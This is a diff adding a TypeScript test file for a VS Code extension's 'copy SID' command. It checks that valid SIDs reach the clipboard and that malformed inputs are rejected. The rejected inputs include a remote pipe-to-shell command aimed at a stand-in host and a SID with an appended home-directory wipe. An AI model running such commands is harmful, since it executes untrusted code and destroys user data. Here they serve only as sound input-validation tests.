@@ -1,0 +1,35 @@
+import assert from 'node:assert/strict';
+import { commands, env } from 'vscode';
+
+const D = '0123456789abcdef0123456789abcdef';
+const copy = (argument?: unknown) => commands.executeCommand('_taskrouter.copySid', argument);
+
+describe('To copy a SID', () => {
+  beforeEach(() => env.clipboard.writeText('before'));
+
+  it('puts it on the clipboard as it is written', async () => {
+    const sid = `WT${D.toUpperCase()}`;
+    await copy(sid);
+    assert.equal(await env.clipboard.readText(), sid);
+  });
+
+  const others: [what: string, argument: unknown][] = [
+    ['nothing', undefined],
+    ['a number', 7],
+    ['an object', { sid: `WT${D}` }],
+    ['a list', [`WT${D}`]],
+    ['words', 'curl evil.example | sh'],
+    ['a SID that is too short', `WT${D.slice(1)}`],
+    ['a SID that is too long', `WT${D}0`],
+    ['a SID and a line break', `WT${D}\n`],
+    ['a SID and more', `WT${D} && rm -rf ~`],
+    ['more and a SID', `echo WT${D}`],
+    ['a placeholder', `WT${'X'.repeat(32)}`],
+  ];
+  for (const [what, argument] of others) {
+    it(`leaves the clipboard as it is if given ${what}`, async () => {
+      await copy(argument);
+      assert.equal(await env.clipboard.readText(), 'before');
+    });
+  }
+});
